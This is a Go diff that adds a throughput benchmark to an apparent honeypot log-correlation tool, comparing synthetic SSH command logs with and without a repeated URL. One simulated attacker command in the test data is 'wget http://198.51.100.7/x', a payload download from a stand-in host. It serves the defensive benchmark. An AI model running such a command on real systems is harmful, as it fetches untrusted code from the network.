@@ -10,6 +10,7 @@ import (
 	"time"
 
 	"dossier/correlate"
+	"dossier/plugin/chunk/chunktest"
 	"dossier/testbed/gen"
 	"dossier/testbed/memory"
 )
@@ -281,4 +282,90 @@ func (b *bench) writers(ctx context.Context) error {
 		})
 	}
 	return b.drop(ctx, "bench-writers-*")
+}
+
+// oneURL measures eight writers each of whose chunks names one URL, the same
+// for all, beside the same chunks without: the URL's document, and that of its
+// host, are the ones that every process writes all the time.
+func (b *bench) oneURL(ctx context.Context) error {
+	const writers, lasting = 8, 12 * time.Second
+	for _, command := range []string{"id", "wget http://198.51.100.7/x"} {
+		if err := b.drop(ctx, "bench-url-*"); err != nil {
+			return err
+		}
+		rigs := make([]*rig, writers)
+		for i := range rigs {
+			var err error
+			if rigs[i], err = newRig(rigOptions{prefix: "bench-url", sensor: fmt.Sprint("sensor-", i)}, b.node.URL); err != nil {
+				return err
+			}
+		}
+		run, cancel := context.WithTimeout(ctx, lasting+deadline)
+		var group sync.WaitGroup
+		var mu sync.Mutex
+		var acknowledged []time.Duration
+		retried := 0
+		var fail error
+		start := time.Now()
+		for i, r := range rigs {
+			// As Fluent Bit does, a few flushes at a time.
+			for worker := range 4 {
+				group.Go(func() {
+					for n := 0; time.Since(start) < lasting; n++ {
+						at := time.Date(2026, 1, 8, 0, 0, n, 1000*(worker+1), time.UTC)
+						var lines []string
+						for line := range 40 {
+							said := "id"
+							if line == 20 {
+								said = command
+							}
+							lines = append(lines, fmt.Sprintf(`<134>1 %s decky-%02d ssh - command [relay@55555 src_ip="203.%d.%d.%d" command="%s"]`,
+								at.Format("2006-01-02T15:04:05.000000+00:00"), line, i, worker, line, said))
+						}
+						data, begun := chunktest.Lines(at, "log", lines...), time.Now()
+						for {
+							result, err := r.engine.Flush(run, fmt.Sprint("sensor-", i), data)
+							if err == nil && result == correlate.OK {
+								break
+							}
+							mu.Lock()
+							if retried++; run.Err() != nil {
+								fail = err
+							}
+							mu.Unlock()
+							if run.Err() != nil {
+								return
+							}
+						}
+						mu.Lock()
+						acknowledged = append(acknowledged, time.Since(begun))
+						mu.Unlock()
+					}
+				})
+			}
+		}
+		group.Wait()
+		took := time.Since(start)
+		var written, conflicts int64
+		for _, r := range rigs {
+			s := r.committer.Stats()
+			written += s.DocumentsWritten
+			conflicts += s.Conflicts
+			if err := r.end(ctx); err != nil && fail == nil {
+				fail = err
+			}
+		}
+		cancel()
+		if fail != nil {
+			return fail
+		}
+		slices.Sort(acknowledged)
+		n := len(acknowledged)
+		b.report.add(figure{
+			What: fmt.Sprintf("%d writers, one command of each chunk is %q", writers, command), Value: float64(n) / took.Seconds(), Unit: "chunks/s",
+			Note: fmt.Sprintf("of 40 attackers each; acknowledged after %d ms (p50), %d ms (p99), %d given back; %.2f conflicts a chunk, %.1f documents a chunk",
+				acknowledged[n/2].Milliseconds(), acknowledged[n*99/100].Milliseconds(), retried, float64(conflicts)/float64(n), float64(written)/float64(n)),
+		})
+	}
+	return b.drop(ctx, "bench-url-*")
 }
